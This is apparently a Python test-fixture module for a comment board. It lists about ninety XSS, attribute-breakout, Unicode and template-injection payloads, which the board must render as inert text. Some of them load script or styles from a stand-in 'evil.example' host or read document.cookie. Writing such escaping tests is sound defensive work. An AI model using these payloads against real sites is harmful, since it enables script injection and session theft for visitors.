"""Hostile texts for the readers' pages: each must show as the very characters typed, and do nothing.

Sources of inspiration: the OWASP XSS filter-evasion cheat sheet and PortSwigger's XSS cheat sheet, plus
payloads aimed at this page's own contexts (the comment text with its link renderer, a textarea that edit
forms prefill, attributes, the <title>, template syntax). No NUL character: forms refuse it (tested apart).
"""

COMMENT_PAYLOADS = [
    # Tags and event handlers
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"document.body.dataset.pwned='img'\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>hi</marquee>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<a href=javascript:alert(1)>click me</a>",
    '<a href="jav&#x09;ascript:alert(1)">tab trick</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<div style=\"background:url('javascript:alert(1)')\">styled</div>",
    # Breaking out of attributes, textareas and the title
    '"><img src=x onerror=alert(1)>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" data-x="',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "`><img src=x onerror=alert(1)>",
    # The link renderer: only http(s) links become links, and a link ends at a quote or a bracket
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://evil.example/"onmouseover="alert(1)',
    'https://evil.example/?q="><img src=x onerror=alert(1)>',
    "https://evil.example/<script>alert(1)</script>",
    "http://x.example/'><svg onload=alert(1)>",
    "https://evil.example/#javascript:alert(1)",
    # Template and expression injection
    "{{7*7}}",
    "{% debug %}",
    "{{ request.user.password }}",
    "${7*7}",
    "#{7*7}",
    # Encodings and Unicode tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜／script＞",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u2028<img src=x onerror=alert(1)>\u2029",
    "<ſcript>alert(1)</ſcript>",
]

# Display names: the board's sign-up refuses anything but letters, digits, spaces, "-" and "_", but the
# admin can set any name up to 40 characters; these are shown as the authors of comments.
DISPLAY_NAME_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</a><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% debug %}",
    "<iframe src=javascript:alert(1)>",
    # A name with "/" or escapes still links to its owner ("../" is left out: Django's test server tries
    # every path as a media file first and refuses one that climbs out of the project folder).
    "%2e%2e%2fadmin",
    "a/b?c=d#e",
    "＜script＞alert(1)＜／script＞",
    "\u202egnp.exe<b>x</b>",
    "<details open ontoggle=alert(1)>",
    "<b>bold</b> and <i>italic</i>",
    "<a href=//evil.example>x</a>",
    "<svg/onload=alert(2)>",
    "<img src=1 onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "<script>prompt(1)</script>",
    "<body onload=alert(4)>",
    "<input onfocus=alert(5) autofocus>",
    "<x onclick=alert(6)>click me</x>",
    "'-alert(8)-'",
    '\\"-alert(9)//',
    "<!-- hidden -->",
    "&amp;&lt;tags&gt;",
    "Zoë 📈 <i>x</i>",
    "<u>underlined</u>",
    "<select><option>x</select>",
]


def _name_payloads() -> list[str]:
    """Every display-name payload, then the comment payloads that fit a name (40 characters, no outer
    spaces); one of each, ignoring case (names are unique that way)."""
    names, seen = [], set()
    for text in DISPLAY_NAME_PAYLOADS + COMMENT_PAYLOADS:
        if len(text) <= 40 and text.strip() == text and text.casefold() not in seen:
            seen.add(text.casefold())
            names.append(text)
    return names


NAME_PAYLOADS = _name_payloads()
assert len(COMMENT_PAYLOADS) >= 50 and len(NAME_PAYLOADS) >= 50
